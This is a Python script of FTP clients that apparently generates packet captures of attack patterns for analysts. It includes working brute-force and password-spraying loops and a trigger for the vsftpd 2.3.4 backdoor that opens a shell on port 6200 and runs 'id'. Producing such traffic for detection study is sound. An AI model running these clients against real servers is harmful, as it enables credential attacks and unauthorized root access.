#!/usr/bin/python3
"""Clients for scripts/make-analyst-captures: the analyst's attack patterns, on real sockets.

  typed HOST USER PASSWORD        log in typing one character per TCP segment (a person at a telnet prompt)
  guess HOST SRC USER N PASSWORD...  N failed logins in a row from source address SRC, reconnecting whenever
                                  the server drops the connection (pyftpdlib drops after --max-logins)
  spray HOST SRC PASSWORD USER... one password tried for each user, one connection per user, from SRC
  backdoor HOST                   the vsftpd 2.3.4 backdoor pattern: USER ending in ":)", then a connection to
                                  TCP 6200 of the server and a shell command on it
Every client prints what it does on stderr.
"""
import socket
import sys
import time


def say(msg):
    print("analyst_clients: " + msg, file=sys.stderr)


class Control:
    def __init__(self, host, src=None, port=21):
        self.sock = socket.create_connection((host, port), timeout=10,
                                             source_address=(src, 0) if src else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""

    def read_reply(self):
        """One whole reply (multi-line ones too); None when the server closed the connection."""
        lines = []
        while True:
            while b"\r\n" not in self.buf:
                chunk = self.sock.recv(4096)
                if not chunk:
                    return None
                self.buf += chunk
            line, self.buf = self.buf.split(b"\r\n", 1)
            text = line.decode("latin-1")
            lines.append(text)
            if len(text) >= 4 and text[:3].isdigit() and text[3] == " " and \
                    (len(lines) == 1 or text[:3] == lines[0][:3]):
                say("<- " + text)
                return "\n".join(lines)

    def send_line(self, line):
        say("-> " + line)
        self.sock.sendall(line.encode("latin-1") + b"\r\n")

    def type_line(self, line):
        say("-> (typed) " + line)
        for ch in (line + "\r\n").encode("latin-1"):
            self.sock.sendall(bytes([ch]))
            time.sleep(0.03)

    def close(self):
        self.sock.close()


def typed(host, user, password):
    c = Control(host)
    c.read_reply()
    c.type_line("USER " + user)
    c.read_reply()
    c.type_line("PASS " + password)
    c.read_reply()
    c.type_line("QUIT")
    c.read_reply()
    c.close()


def guess(host, src, user, n, passwords):
    done = 0
    while done < n:
        c = Control(host, src)
        if c.read_reply() is None:
            c.close()
            continue
        while done < n:
            c.send_line("USER " + user)
            if c.read_reply() is None:
                break
            c.send_line("PASS " + passwords[done % len(passwords)])
            reply = c.read_reply()
            done += 1
            if reply is None or reply.startswith("421"):
                break
            if not reply.startswith("530"):
                raise SystemExit("unexpected reply: %r" % reply)
            time.sleep(0.05)
        c.close()
        time.sleep(0.1)


def spray(host, src, password, users):
    for user in users:
        c = Control(host, src)
        c.read_reply()
        c.send_line("USER " + user)
        c.read_reply()
        c.send_line("PASS " + password)
        c.read_reply()
        c.send_line("QUIT")
        c.read_reply()
        c.close()
        time.sleep(0.05)


def backdoor(host):
    c = Control(host)
    c.read_reply()
    c.send_line("USER ftp19:)")
    c.read_reply()
    c.send_line("PASS anything")
    c.read_reply()
    # the backdoored server would now listen on 6200 with a root shell
    shell = socket.create_connection((host, 6200), timeout=10)
    shell.sendall(b"id\n")
    say("shell: " + shell.recv(4096).decode("latin-1").strip())
    shell.close()
    c.send_line("QUIT")
    c.read_reply()
    c.close()


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "typed":
        typed(*args)
    elif cmd == "guess":
        guess(args[0], args[1], args[2], int(args[3]), args[4:])
    elif cmd == "spray":
        spray(args[0], args[1], args[2], args[3:])
    elif cmd == "backdoor":
        backdoor(*args)
    else:
        raise SystemExit("unknown client " + cmd)


if __name__ == "__main__":
    main()
